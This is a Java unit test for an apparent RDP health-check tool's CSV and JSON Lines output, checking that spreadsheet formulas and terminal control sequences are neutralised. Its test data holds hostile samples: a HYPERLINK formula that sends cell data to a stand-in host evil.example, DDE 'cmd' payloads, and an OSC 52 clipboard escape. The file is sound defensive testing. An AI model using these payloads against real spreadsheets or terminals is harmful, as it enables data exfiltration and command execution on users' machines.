package io.rdpdoctor.batch;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** CSV and JSON Lines cells against spreadsheet formulas (F19) and terminal escapes (F3). */
class ResultFormatTest {

    private static String csv(String host) {
        return ResultFormat.CSV.line(new HostResult("in.yaml", host, HostResult.Status.HEALTHY, List.of(), null, List.of()));
    }

    @Test
    void aCellAFormulaWouldStartWithGetsALeadingQuote() {
        assertThat(csv("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",");
        assertThat(csv("+cmd|' /C calc'!A0")).startsWith("'+cmd|' /C calc'!A0,");
        assertThat(csv("@SUM(1+1)*cmd|x")).startsWith("'@SUM(1+1)*cmd|x,");
        assertThat(csv("-2+3+cmd|x")).startsWith("'-2+3+cmd|x,");
        assertThat(csv("\tx")).startsWith("'\\u0009x,");
        assertThat(csv("\rx")).startsWith("'\\u000dx,");
        assertThat(csv("\uff1dSUM(1)")).startsWith("'\uff1dSUM(1),");
    }

    @Test
    void ordinaryCellsAreUnchanged() {
        assertThat(csv("SRV01")).isEqualTo("SRV01,in.yaml,healthy,,");
        assertThat(csv("a,b")).startsWith("\"a,b\",");
        assertThat(csv("x=1")).startsWith("x=1,");
    }

    @Test
    void controlCharactersAndLineBreaksAreMadeVisible() {
        assertThat(csv("H1\u001b]52;c;aWV4\u0007\nnext")).isEqualTo("H1\\u001b]52;c;aWV4\\u0007\\u000anext,in.yaml,healthy,,");
        String jsonl = ResultFormat.JSONL.line(new HostResult("in.yaml", "H\u001b\u009b\u202e", HostResult.Status.HEALTHY, List.of(), null, List.of()));
        assertThat(jsonl).contains("\"host\":\"H\\u001B\\u009B\\u202E\"");
    }
}
